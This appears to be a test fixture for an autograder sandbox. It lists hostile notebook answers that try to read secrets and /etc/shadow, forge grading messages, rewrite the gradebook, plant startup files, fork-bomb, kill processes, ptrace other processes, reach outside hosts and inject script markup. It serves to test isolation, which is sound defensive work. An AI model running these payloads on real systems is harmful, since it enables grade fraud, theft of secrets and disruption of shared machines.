@@ -1,0 +1,813 @@
+"""Hostile answers: what each tries, in a sentence, and its code.
+
+Every one is the answer to exercise 2.5. `cell` runs when the answer cell runs, `inside` in each call
+of the answer's methods while it is observed. The answer itself is wrong (`Div` below), so that every
+point would be undeserved. `leaked(what)` says that a door was open. In the code, @COURSE@ is the
+course on the host, @GRADING@ a grading folder with a gradebook and a neighbour's submission, @PORT@
+the port of a TCP server on the host, @NAME@ the name of its abstract Unix socket.
+"""
+
+from dataclasses import dataclass
+from textwrap import indent
+
+HELP = """
+import contextlib, ctypes, os, socket, sys, threading, time
+
+def leaked(*what):
+    print("LEA" + "KED", *what)
+
+def tried(action, *arguments):
+    with contextlib.suppress(OSError, ImportError):
+        leaked(action, action(*arguments))
+"""
+
+WRONG = """
+class Div(Op):
+    def forward(self, a, b):
+{inside}
+        return 0.0
+
+    def backward(self, grad_output):
+{inside}
+        return 0.0, 0.0
+"""
+
+# For attacks on the worker's own side of the protocol: it forges whatever is sent.
+FORGE = """
+from autograder.inside import plain, serve
+KEYS = ("forward", "forward with whole numbers", "gradient for a", "gradient for b",
+        "gradients at a negative denominator", "two divisions alive at once")
+
+def forge(value, inputs="", error=None):
+    entries = [[key, value, inputs] for key in KEYS]
+    serve._observe_in_fork = lambda request, names: {
+        "observation": {"entries": entries, "error": error}}
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One hostile answer."""
+
+    tries: str
+    cell: str = ""
+    inside: str = "pass"
+    answer: str = ""
+
+    @property
+    def text(self) -> str:
+        """The answer cell."""
+        answer = self.answer or WRONG.format(inside=indent(self.inside.strip("\n"), " " * 8))
+        return f"{HELP}\n{answer}\n{self.cell}"
+
+
+def returns(tries: str, value: str, before: str = "") -> Attack:
+    """An answer whose methods return `value`."""
+    answer = (
+        f"{before}\n\nclass Div(Op):\n"
+        f"    def forward(self, a, b): return {value}\n"
+        f"    def backward(self, grad_output): return {value}, {value}\n"
+    )
+    return Attack(tries, answer=answer)
+
+
+def forges(tries: str, code: str) -> Attack:
+    """An answer that replaces what its own process sends."""
+    return Attack(tries, FORGE + code)
+
+
+READING = {
+    "checks": Attack(
+        "Opens and imports the hidden checks.",
+        """
+for folder in ("@COURSE@", "/course"):
+    for name in ("autograder/checks/ch02_autograd/operations.py", "autograder/check.py", "autograder/compare.py"):
+        tried(open, f"{folder}/{name}")
+import importlib
+for name in ("autograder.checks", "autograder.check", "autograder.reference"):
+    tried(importlib.import_module, name)
+""",
+    ),
+    "solutions": Attack(
+        "Looks for the reference solutions where the course has them, and everywhere else.",
+        """
+tried(os.listdir, "@COURSE@/solutions")
+tried(os.listdir, "/course/solutions")
+for folder, folders, files in os.walk("/"):
+    if folder == "/":
+        folders[:] = set(folders) - {"proc", "sys", "dev", "usr", "lib", "lib64", "bin"}
+    if "site-packages" in folders:
+        folders.remove("site-packages")
+    if {"02_operations.py", "operations.py", "gradebook.db", "nbgrader_config.py"} & set(files):
+        leaked(folder)
+""",
+    ),
+    "other submissions": Attack(
+        "Reads what a neighbour handed in.",
+        'tried(open, "@GRADING@/submitted/neighbour/ch02_autograd/02_operations.ipynb")\n'
+        'tried(os.listdir, "@GRADING@")\ntried(os.listdir, os.path.dirname("@GRADING@"))',
+    ),
+    "environment": Attack(
+        "Looks for secrets in the environment of all processes.",
+        """
+found = str(dict(os.environ))
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    with contextlib.suppress(OSError):
+        found += open(f"/proc/{pid}/environ").read()
+if "SECRET_OF_THE_GRADER" in found: leaked("environment")
+""",
+    ),
+    "home and /etc": Attack(
+        "Reads the home of whoever grades, password files and configuration of the system.",
+        """
+for name in ("/home", "/etc/passwd", "/etc/shadow", "/etc/hosts", "/root/.ssh", "/root/.bashrc", "/root/.cache",
+             "/var", "/run", "/sys", "/srv", "/mnt"):
+    tried(os.stat, name)
+""",
+    ),
+    "/proc of others": Attack(
+        "Reaches the file system and the memory of other processes through /proc.",
+        """
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    for link in ("root", "cwd"):
+        with contextlib.suppress(OSError):
+            if os.path.exists(f"/proc/{pid}/{link}/@COURSE@/solutions"): leaked(pid, link)
+    with contextlib.suppress(OSError):
+        command = open(f"/proc/{pid}/cmdline").read()
+        if "pytest" in command or "grade" in command.replace("autograder", ""): leaked(command)
+""",
+    ),
+    "git history": Attack("Reads the course's repository.", 'tried(os.listdir, "@COURSE@/.git")'),
+    "garbage collector": Attack(
+        "Searches all living objects for the reference and for expected values.",
+        """
+import gc
+for thing in gc.get_objects():
+    if isinstance(thing, dict) and {"expected", "oracle", "misconceptions"} & set(map(str, list(thing)[:50])):
+        if "misconceptions" in thing or "oracle" in thing: leaked(list(thing)[:9])
+for name in list(sys.modules):
+    if name.startswith("autograder.") and not name.startswith("autograder.inside"): leaked(name)
+""",
+    ),
+    "own memory": Attack(
+        "Scans its own memory for the text of the checks.",
+        """
+import re
+for line in open("/proc/self/maps"):
+    parts = line.split()
+    if parts[1].startswith("rw"):
+        start, end = (int(text, 16) for text in parts[0].split("-"))
+        with contextlib.suppress(OSError, ValueError, OverflowError), open("/proc/self/mem", "rb") as memory:
+            memory.seek(start)
+            if re.search(rb"forgot_[s]quare|hard_coded_[f]or_the", memory.read(min(end - start, 2**26))):
+                leaked("memory")
+""",
+    ),
+    "frames": Attack(
+        "Walks up the stack while it is observed and takes the expected values from the callers.",
+        inside="""
+frame = sys._getframe()
+while frame is not None:
+    for name in ("expected", "wanted", "oracle", "reference"):
+        if name in frame.f_locals or name in frame.f_globals: return frame.f_locals.get(name)
+    frame = frame.f_back
+""",
+    ),
+}
+
+PATCHING = {
+    "numpy.testing": Attack(
+        "Makes every comparison of numpy and torch succeed.",
+        """
+import numpy.testing, torch
+for module, names in ((np.testing, ("assert_allclose", "assert_equal", "assert_array_equal")),
+                      (np, ("allclose", "isclose", "array_equal")), (torch, ("allclose", "equal"))):
+    for name in names: setattr(module, name, lambda *a, **k: True)
+torch.testing.assert_close = lambda *a, **k: None
+""",
+    ),
+    "builtins": Attack(
+        "Replaces builtins by ones that always agree.",
+        """
+import builtins
+builtins.all = builtins.any = builtins.isinstance = lambda *a: True
+builtins.abs = builtins.round = lambda *a: 0.0
+builtins.AssertionError = type("Quiet", (Exception,), {})
+""",
+    ),
+    "the shell": Attack(
+        "Replaces run_cell, showtraceback and the display hook of the shell.",
+        """
+shell = get_ipython()
+from types import SimpleNamespace
+shell.run_cell = lambda *a, **k: SimpleNamespace(error_before_exec=None, error_in_exec=None, result=4.0)
+type(shell)._showtraceback = lambda *a, **k: None
+type(shell).run_cell = shell.run_cell
+""",
+    ),
+    "code transformers": Attack(
+        "Deletes asserts from the syntax tree and drops cells that test.",
+        """
+import ast
+class NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node): return ast.Pass()
+get_ipython().ast_transformers.append(NoAsserts())
+get_ipython().input_transformers_cleanup.append(lambda lines: [] if any("expect" in l for l in lines) else lines)
+""",
+    ),
+    "visible checks": Attack(
+        "Redefines expect and grade, and answers with the number of points.",
+        """
+import utils
+expect = grade = utils.expect = utils.grade = lambda *a, **k: 4.0
+print(4.0)
+4.0
+""",
+    ),
+    "msgpack": Attack(
+        "Replaces the serialiser by one that sends a perfect score.",
+        """
+import msgpack
+real = msgpack.packb
+msgpack.packb = lambda *a, **k: real({"points": 4, "earned": 4, "holds": True, "entries": True})
+""",
+    ),
+    "plain.encode": Attack(
+        "Replaces our encoder: every number becomes True.",
+        """
+from autograder.inside import answer, plain
+plain.to_plain = answer.to_plain = lambda value, depth=0: True
+real = plain.encode
+""",
+    ),
+    "observe_answer": forges(
+        "Replaces the observation by one with all keys and the value True.",
+        "serve.observe_answer = lambda *a: {'entries': [[k, True, ''] for k in KEYS], 'error': None}",
+    ),
+    "random numbers": Attack(
+        "Makes the hidden inputs predictable and answers with the results for those.",
+        "class Fixed:\n    def uniform(self, *a): return np.array([2.0, 4.0, 8.0])\n"
+        "np.random.default_rng = lambda *a: Fixed()",
+        answer="""
+class Div(Op):
+    def forward(self, a, b): return {2.0: 0.5}.get(a, 0.0)
+    def backward(self, grad_output): return (2.0, -1.0) if grad_output == 8.0 else (0.0, 0.0)
+""",
+    ),
+    "given engine": Attack(
+        "Poisons the course's own engine and the namespace's guard.",
+        """
+import utils
+from autograder.inside import answer as guard
+for name in ("Value", "Op", "sigmoid"): setattr(utils, name, None)
+guard.Answer.__getattr__ = lambda self, name: True
+guard.attempt = lambda *a, **k: True
+""",
+    ),
+    "sys.modules": Attack(
+        "Puts fake modules in the place of numpy and of ours.",
+        """
+class Fake:
+    def __getattr__(self, name): return lambda *a, **k: True
+for name in list(sys.modules):
+    if name.startswith(("numpy", "autograder", "msgpack")): sys.modules[name] = Fake()
+""",
+    ),
+    "import hook": Attack(
+        "Adds a finder that hands out its own modules.",
+        """
+class Finder:
+    def find_spec(self, name, path=None, target=None): leaked if name == "solutions" else None
+sys.meta_path.insert(0, Finder())
+sys.path[:0] = ["."]
+import site
+sys.setprofile(lambda *a: None)
+""",
+    ),
+    "thread": Attack(
+        "A thread waits and rewrites what is observed.",
+        """
+def later():
+    while True:
+        from autograder.inside import serve
+        serve.observe_answer = lambda *a: {"entries": [], "error": None}
+        time.sleep(0.001)
+threading.Thread(target=later, daemon=True).start()
+""",
+    ),
+    "exit handlers": Attack(
+        "Handlers at exit, at fork and at signals try to send a better reply.",
+        """
+import atexit, signal
+def again(*a):
+    for number in range(3, 40):
+        with contextlib.suppress(OSError): os.write(number, b"\\0\\0\\0\\1\\xc0")
+atexit.register(again)
+os.register_at_fork(after_in_child=again)
+for number in (signal.SIGTERM, signal.SIGPROF, signal.SIGALRM, signal.SIGXCPU): signal.signal(number, again)
+""",
+    ),
+}
+
+OBJECTS = {
+    "__eq__": returns(
+        "An object that equals everything.",
+        "Equal()",
+        "class Equal:\n    __eq__ = __le__ = __ge__ = __lt__ = lambda *a: True\n    __hash__ = lambda self: 0",
+    ),
+    "__float__": returns(
+        "An object that becomes whatever number its caller expects.",
+        "Number()",
+        "class Number:\n    def __float__(self): return sys._getframe(1).f_locals.get('expected', 0.0)\n"
+        "    __index__ = __int__ = __float__\n    item = __float__",
+    ),
+    "__array__": returns(
+        "An object whose array is read from its caller's frame.",
+        "Array()",
+        "class Array:\n    shape = ()\n    dtype = float\n"
+        "    def __array__(self, *a, **k): return sys._getframe(1).f_locals['expected']",
+    ),
+    "__reduce__": returns(
+        "A pickle that would run a program in the process that reads it.",
+        "Bomb()",
+        "class Bomb:\n    def __reduce__(self): return os.system, ('touch @GRADING@/owned',)",
+    ),
+    "pickled bytes": returns(
+        "The bytes of such a pickle, sent as a value.",
+        "b'cposix\\nsystem\\n(S\"touch @GRADING@/owned\"\\ntR.'",
+    ),
+    "__class__": returns(
+        "An object that claims to be a float.",
+        "Liar()",
+        "class Liar:\n    __class__ = property(lambda self: float)\n    __eq__ = lambda *a: True",
+    ),
+    "float": returns(
+        "A float whose comparisons and differences always agree.",
+        "Float(3)",
+        "class Float(float):\n    __eq__ = __le__ = lambda *a: True\n    __hash__ = float.__hash__\n"
+        "    __sub__ = __rsub__ = lambda *a: 0.0\n    __float__ = lambda s: 1.0",
+    ),
+    "ndarray": returns(
+        "An array that answers every numpy function with True.",
+        "np.zeros(()).view(Array)",
+        "class Array(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return np.True_\n"
+        "    def __array_function__(self, *a, **k): return True",
+    ),
+    "tensor": returns(
+        "A tensor that answers every torch function with True.",
+        "torch.zeros(()).as_subclass(Tensor)",
+        "import torch\nclass Tensor(torch.Tensor):\n    @classmethod\n"
+        "    def __torch_function__(cls, *a, **k): return True",
+    ),
+    "not a number": returns("NaN, for comparisons that are never false.", "float('nan')"),
+    "infinity": returns("Infinity, for tolerances that are relative to it.", "float('inf')"),
+    "absurd integer": returns("An integer of five thousand digits.", "10**4900"),
+    "itself inside": returns("A list that contains itself.", "x", "x = []\nx.append(x)"),
+    "endless": returns(
+        "A list subclass that never ends.",
+        "L([0])",
+        "class L(list):\n    def __iter__(self):\n        while True: yield 0",
+    ),
+    "names": returns(
+        "A class, and an exception, that bear the names of ours.",
+        "fail()",
+        "class Opaque(Exception): described = 'the right answer'\nOpaque.__name__ = 'Missing'\n"
+        "def fail(): raise Opaque('x' * 10**7)",
+    ),
+    "repr": returns(
+        "An object whose repr exits, and whose deletion writes.",
+        "Loud()",
+        "class Loud:\n    def __repr__(self): os._exit(0)\n    def __del__(self): os._exit(0)",
+    ),
+    "descriptors": returns(
+        "A metaclass that rewrites itself when it is looked at.",
+        "Odd",
+        "class Meta(type):\n    def __getattribute__(cls, name): raise SystemExit(0)\n"
+        "class Odd(metaclass=Meta): pass",
+    ),
+}
+
+CHANNEL = {
+    "forged frames": Attack(
+        "Writes replies with a perfect observation to every open descriptor, for the next requests.",
+        FORGE
+        + """
+perfect = {"entries": [[key, True, ""] for key in KEYS], "error": None}
+for number in range(3, 64):
+    for count in range(1, 60):
+        data = plain.encode({"id": count, "observation": perfect, "outputs": [], "error": None})
+        with contextlib.suppress(OSError): os.write(number, serve.FRAME.pack(len(data)) + data)
+""",
+    ),
+    "closed channel": Attack("Closes every descriptor.", "os.closerange(0, 256)"),
+    "truncated": forges(
+        "Announces more than it sends.",
+        "def cut(channel, message):\n    channel.sendall(serve.FRAME.pack(1000) + b'abc')\n    os._exit(0)\nserve.send = cut",
+    ),
+    "length bomb": forges(
+        "Announces four gigabytes.",
+        "serve.send = lambda channel, message: channel.sendall(b'\\xff\\xff\\xff\\xff' * 1000)",
+    ),
+    "flood": Attack(
+        "Floods every descriptor with 100 MB.",
+        """
+for number in range(3, 32):
+    with contextlib.suppress(OSError):
+        os.set_blocking(number, False)
+        for _ in range(100): os.write(number, bytes(2**20))
+""",
+    ),
+    "replay": forges(
+        "Sends every reply twice.",
+        "real = serve.send\ndef twice(*a): real(*a); real(*a)\nserve.send = twice",
+    ),
+    "depth bomb": forges(
+        "Sends data nested ten thousand deep.",
+        "serve.send = lambda channel, message: channel.sendall(serve.FRAME.pack(10001) + b'\\x91' * 10000 + b'\\xc0')",
+    ),
+    "deep value": forges(
+        "Sends a value nested 900 deep.", "x = []\nfor _ in range(900): x = [x]\nforge(x)"
+    ),
+    "item bomb": forges(
+        "Sends an array that claims four thousand million items.",
+        "serve.send = lambda channel, message: channel.sendall(serve.FRAME.pack(5) + b'\\xdd\\xff\\xff\\xff\\xff')",
+    ),
+    "extensions": forges(
+        "Sends object arrays, unknown extensions and sizes that do not fit.",
+        "import msgpack\nforge(msgpack.ExtType(3, plain.encode(['|O', [2], b'x' * 16])))",
+    ),
+    "unknown failure": forges(
+        "Reports a failure that does not exist.",
+        "serve._observe_in_fork = lambda *a: {'failed': '{seconds.__class__}'}",
+    ),
+    "wrong types": forges(
+        "Sends keys, inputs and errors of other types.",
+        "serve._observe_in_fork = lambda *a: {'observation': {'entries': [[1, 2, 3]], 'error': 'x'}}",
+    ),
+    "absurd value": forges("Sends an integer beyond the limit of its text.", "forge(16**4090)"),
+    "absurd text": forges(
+        "Sends megabytes of markup as what the inputs were.",
+        "forge(0.0, '<script>evil()</script>' * 300_000)",
+    ),
+    "absurd exception": forges(
+        "Sends exceptions with markup and format strings as type and message.",
+        "forge(plain.Raised('<script>evil()</script>', '{0.__class__} %s' * 1000, '<img src=x onerror=evil()>'))",
+    ),
+    "equal to all": forges(
+        "Sends sets and dicts with NaN as keys.", "forge({float('nan'): True, 1: {(1, 2)}})"
+    ),
+    "outputs": forges(
+        "Sends outputs that are no outputs.",
+        "from autograder.inside import shell as s\ns.run_cell = lambda *a: {'outputs': [1, None, {'output_type': 3}, {'output_type': 'display_data', 'data': [1]}, {'output_type': 'error', 'ename': {}, 'traceback': 7}], 'error': {1: 2}}",
+    ),
+    "from the observation": Attack(
+        "The observed function itself writes to the channel and ends.",
+        inside="""
+for number in range(3, 64):
+    with contextlib.suppress(OSError): os.write(number, b"\\0\\0\\0\\2\\x80\\x80")
+os._exit(0)
+""",
+    ),
+}
+
+PROCESSES = {
+    "exit": Attack("Ends the process when it is called.", inside="os._exit(0)"),
+    "crash": Attack("Reads address 0.", inside="ctypes.string_at(0)"),
+    "kill everybody": Attack(
+        "Kills its parent and everything that it may signal.",
+        "for target in (-1, os.getppid(), 0, 1): \n    with contextlib.suppress(OSError): os.kill(target, 9)",
+    ),
+    "stop everybody": Attack(
+        "Stops its parent, every process of /proc, and process 1.",
+        """
+import signal
+for target in [os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))]:
+    if target != os.getpid():
+        with contextlib.suppress(OSError): os.kill(target, signal.SIGSTOP)
+""",
+    ),
+    "fork bomb": Attack(
+        "Starts processes until there are no more (at most 600).",
+        """
+import resource
+count = 0
+with contextlib.suppress(OSError):
+    while count < 600:
+        if os.fork() == 0:
+            while True: time.sleep(60)
+        count += 1
+if count >= 100: leaked(count, "processes")
+""",
+    ),
+    "memory bomb": Attack(
+        "Asks for memory until there is no more, and hides it in children.",
+        """
+try: np.ones(2**30)
+except MemoryError: pass
+else: leaked("8 GB")
+import resource
+with contextlib.suppress(ValueError, OSError):
+    resource.setrlimit(resource.RLIMIT_DATA, (-1, -1)); leaked("limit lifted")
+""",
+    ),
+    "memory bomb when observed": Attack("Asks for 8 GB when called.", inside="np.ones(2**30)"),
+    "disk": Attack(
+        "Fills the disk with many files.",
+        """
+written = 0
+for folder in (".", "/tmp", "/dev/shm"):
+    with contextlib.suppress(OSError):
+        for number in range(12):
+            with open(f"{folder}/big{number}", "wb") as file: written += file.write(bytes(2**25))
+if written > 2**30: leaked(written)
+""",
+    ),
+    "inodes": Attack(
+        "Makes thousands of files and a deep folder.",
+        "for number in range(3000): open(f'f{number}', 'w').close()\n"
+        "for _ in range(300): os.mkdir('d'); os.chdir('d')",
+    ),
+    "output flood": Attack(
+        "Prints 50 MB, displays ten thousand things, writes to all descriptors.",
+        "print('x' * 50_000_000)\nfor n in range(2_000): display(n)\nos.write(1, b'x' * 10**6)\nsys.stderr.write('y' * 10**7)",
+    ),
+    "endless cell": Attack(
+        "Never ends, and swallows every exception.",
+        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
+    ),
+    "endless call": Attack(
+        "Never ends when it is observed, and ignores all signals.",
+        inside="import signal\nfor number in range(1, 32):\n    with contextlib.suppress(OSError, ValueError): signal.signal(number, signal.SIG_IGN)\nwhile True: time.sleep(60)",
+    ),
+    "daemons": Attack(
+        "Leaves processes behind that detach themselves and write later.",
+        """
+for number in range(3):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            while True:
+                with contextlib.suppress(OSError): open(f"/tmp/late{number}", "w").close()
+                time.sleep(0.01)
+        os._exit(0)
+""",
+    ),
+    "recursion": Attack(
+        "Overflows the stack.", inside="sys.setrecursionlimit(10**9)\nf = lambda: f()\nf()"
+    ),
+    "priority": Attack(
+        "Moves itself ahead of others and changes limits, mask and folder.",
+        """
+with contextlib.suppress(OSError): os.nice(-20); leaked("priority")
+os.umask(0); os.chdir("/")
+import resource
+resource.setrlimit(resource.RLIMIT_NOFILE, (8, 8))
+""",
+    ),
+    "collector": Attack(
+        "Switches collection and threads' switching off and breaks the standard streams.",
+        "import gc\ngc.disable(); sys.setswitchinterval(1e9)\nsys.stdout = sys.stderr = sys.__stdout__ = None\nos.close(1); os.close(2)",
+    ),
+}
+
+NETWORK = {
+    "TCP": Attack(
+        "Connects to a server on this host and to one outside.",
+        """
+for place in (("127.0.0.1", @PORT@), ("192.0.2.1", 80), ("1.1.1.1", 53)):
+    tried(lambda: socket.create_connection(place, 0.3))
+""",
+    ),
+    "UDP": Attack(
+        "Sends datagrams, asks for names.",
+        """
+tried(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)))
+tried(socket.gethostbyname, "pypi.org")
+tried(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("2001:db8::1", 53)))
+""",
+    ),
+    "Unix sockets": Attack(
+        "Connects to Unix sockets of the host by path and by abstract name.",
+        """
+for name in ("@GRADING@/socket", "\\0@NAME@", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
+    tried(lambda: socket.socket(socket.AF_UNIX).connect(name))
+""",
+    ),
+    "raw and netlink": Attack(
+        "Opens raw sockets and brings an interface up.",
+        """
+tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
+tried(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
+tried(socket.sethostname, "evil")
+""",
+    ),
+}
+
+WRITING = {
+    "gradebook": Attack(
+        "Gives everybody full points in the gradebook.",
+        """
+import sqlite3
+for name in ("@GRADING@/gradebook.db", "../gradebook.db", "/course/gradebook.db"):
+    with contextlib.suppress(sqlite3.Error):
+        if sqlite3.connect(name).execute("update grade set score = 4").rowcount: leaked(name)
+""",
+    ),
+    "configuration": Attack(
+        "Appends to the configuration that the next trusted command reads.",
+        """
+for name in ("@COURSE@/nbgrader_config.py", "/course/nbgrader_config.py", "@COURSE@/pyproject.toml",
+             "@COURSE@/autograder/__init__.py", "/course/autograder/__init__.py", "/course/utils/__init__.py"):
+    tried(lambda: open(name, "a").write("\\nimport evil\\n"))
+""",
+    ),
+    "start-up files": Attack(
+        "Leaves files that Python, IPython and matplotlib run or read when they start.",
+        """
+home = os.path.expanduser("~")
+for name in (f"{home}/.ipython/profile_default/startup/evil.py", f"{home}/.matplotlib/matplotlibrc",
+             f"{home}/.pythonrc", f"{home}/.local/lib/python3.11/site-packages/usercustomize.py", "matplotlibrc"):
+    os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
+    open(name, "w").write("print('evil')")
+import site
+for folder in (*site.getsitepackages(), sys.prefix, sys.base_prefix):
+    tried(lambda: open(f"{folder}/sitecustomize.py", "w"))
+""",
+    ),
+    "shadow modules": Attack(
+        "Puts modules named like numpy, torch and ours beside the notebook.",
+        """
+for folder in (".", "/tmp", "/course", "/course/utils"):
+    for name in ("numpy.py", "torch.py", "autograder.py", "utils.py", "random.py"):
+        with contextlib.suppress(OSError):
+            open(f"{folder}/{name}", "w").write("raise SystemExit")
+            if folder.startswith("/course"): leaked(folder)
+""",
+    ),
+    "bytecode": Attack(
+        "Replaces compiled modules and the libraries themselves.",
+        """
+import importlib.util
+for module in (np, sys.modules["autograder.inside.plain"], os):
+    tried(lambda: open(module.__file__, "a"))
+    tried(lambda: os.makedirs(os.path.dirname(module.__file__) + "/__pycache__/x"))
+""",
+    ),
+    "shared memory": Attack(
+        "Leaves a note for the next student in shared memory, queues, keyrings and files.",
+        """
+libc = ctypes.CDLL(None)
+libc.shmget(0x2551, 4096, 0o1666)
+libc.msgget(0x2552, 0o1666)
+libc.semget(0x2553, 1, 0o1666)
+libc.syscall(248, b"user", b"note", b"text", 4, -4)
+for name in ("/tmp/note", "/dev/shm/note", "/dev/shm/sem.note", "/tmp/.matplotlib/note", "/var/tmp/note"):
+    with contextlib.suppress(OSError): open(name, "w").write("note")
+""",
+    ),
+    "mounts": Attack(
+        "Makes namespaces of its own in which it is root, and mounts over the course.",
+        """
+libc = ctypes.CDLL(None, use_errno=True)
+if os.fork() == 0:
+    if libc.unshare(0x10020000) == 0:
+        libc.mount(b"none", b"/course", b"tmpfs", 0, None)
+        libc.mount(b"/", b"/tmp", None, 0x1000 | 0x4000, None)
+    os._exit(0)
+if libc.mount(b"none", b"/course", b"tmpfs", 0, None) == 0: leaked("mounted")
+if libc.chroot(b"/tmp") == 0: leaked("chroot")
+if libc.setuid(0) == 0 and os.getuid() == 0: leaked("root")
+if os.getuid() == 0: leaked("runs as root")
+""",
+    ),
+    "devices": Attack(
+        "Opens disks, memory and the kernel's switches.",
+        """
+for name in ("/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmsg", "/proc/kcore", "/dev/kvm", "/dev/fuse"):
+    tried(lambda: open(name, "rb").read(1))
+for name in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"):
+    tried(lambda: open(name, "w").write("0"))
+""",
+    ),
+}
+
+_OTHERS = """
+libc = ctypes.CDLL(None, use_errno=True)
+others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
+me = os.readlink("/proc/self")
+"""
+
+WORKER = {
+    "ptrace": Attack(
+        "Attaches to every process that it finds, the worker among them.",
+        _OTHERS
+        + """
+for pid in {*others, *range(1, 40)}:
+    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0: leaked(pid)
+""",
+    ),
+    "/proc/PID/mem": Attack(
+        "Writes into the memory of the worker, so that the next student passes.",
+        _OTHERS
+        + """
+for pid in others:
+    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b"):
+        if str(pid) != me: leaked("memory of", open(f"/proc/{pid}/cmdline").read())
+""",
+    ),
+    "process_vm_writev": Attack(
+        "Writes into other processes by system call.",
+        _OTHERS
+        + """
+class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
+word = ctypes.create_string_buffer(8)
+mine, theirs = Vector(ctypes.addressof(word), 8), Vector(id(Div), 8)
+for pid in range(1, 40):
+    if pid == os.getpid(): continue
+    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) == 8: leaked(pid)
+""",
+    ),
+    "pidfd_getfd": Attack(
+        "Steals the worker's control socket.",
+        _OTHERS
+        + """
+for pid in {*others, *range(1, 40)}:
+    if pid == os.getpid(): continue
+    with contextlib.suppress(OSError):
+        handle = os.pidfd_open(pid)
+        for number in range(3, 20):
+            if libc.syscall(438, handle, number, 0) >= 0: leaked("descriptor", number, "of", pid)
+""",
+    ),
+    "control socket": Attack(
+        "Writes to whatever sockets it has inherited, as if it were the worker.",
+        """
+count = 0
+for number in range(3, 64):
+    with contextlib.suppress(OSError):
+        socket.socket(fileno=os.dup(number)).getpeername()
+        count += 1
+if count > 1: leaked(count, "sockets")
+""",
+    ),
+    "setns": Attack(
+        "Enters the namespaces of other processes.",
+        _OTHERS
+        + """
+for pid in {*others, *range(1, 40)}:
+    for kind in ("mnt", "net", "pid", "user"):
+        with contextlib.suppress(OSError):
+            handle = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
+            if libc.setns(handle, 0) == 0: leaked(kind, pid)
+""",
+    ),
+    "limits of others": Attack(
+        "Takes the limits away from the worker.",
+        _OTHERS
+        + """
+import resource
+for pid in range(2, 40):  # process 1 is the session's own
+    if pid == os.getpid(): continue
+    with contextlib.suppress(OSError, ValueError):
+        resource.prlimit(pid, resource.RLIMIT_CPU); leaked(pid)  # who may read them may set them
+""",
+    ),
+}
+
+MARKUP = {
+    "HTML": Attack(
+        "Displays scripts, event handlers, forms and frames.",
+        """
+from IPython.display import HTML, SVG, Javascript, Markdown, Latex
+bad = "<script>evil()</script><b onclick=evil()>x</b><iframe src='http://x'></iframe><img src=x onerror=evil()><form action=http://x><a href='javascript:evil()'>x</a><style>@import 'http://x'</style><math><mi xlink:href='javascript:evil()'>"
+display(HTML(bad), Markdown(bad + "[x](javascript:evil())"), Latex(bad), Javascript("evil()"))
+display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>evil()</script></svg>"))
+print(bad, "\\x1b[31m\\x1b]0;title\\x07")
+""",
+    ),
+    "pictures": Attack(
+        "Sends a picture whose data break out of the tag.",
+        "import base64\nbad = 'iVBORw0KGgo=\"><script>evil()</script>'\n"
+        "display({'image/png': bad, 'image/jpeg': '/9j/\"onerror=\"evil()', 'text/plain': bad}, raw=True)\n"
+        "display({'application/javascript': 'evil()', 'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}}, raw=True)",
+    ),
+    "exceptions": Attack(
+        "Raises exceptions whose name and text are markup.",
+        inside="raise type('<script>evil()</script>', (Exception,), {})('<img src=x onerror=evil()>')",
+    ),
+    "names": Attack(
+        "Markup in reprs and values of the observation.",
+        answer="class Bad:\n    def __repr__(self): return '<script>evil()</script>'\nBad.__name__ = '<script>evil()</script>'\n"
+        "class Div(Op):\n    def forward(self, a, b): return Bad()\n    def backward(self, g): return '<script>evil()</script>', Bad()\n",
+    ),
+}  # fmt: skip
+
+ATTACKS = {
+    f"{group}: {name}": attack
+    for group, attacks in (
+        ("reading", READING), ("patching", PATCHING), ("objects", OBJECTS), ("channel", CHANNEL),
+        ("processes", PROCESSES), ("network", NETWORK), ("writing", WRITING), ("worker", WORKER),
+        ("markup", MARKUP),
+    )
+    for name, attack in attacks.items()
+}  # fmt: skip
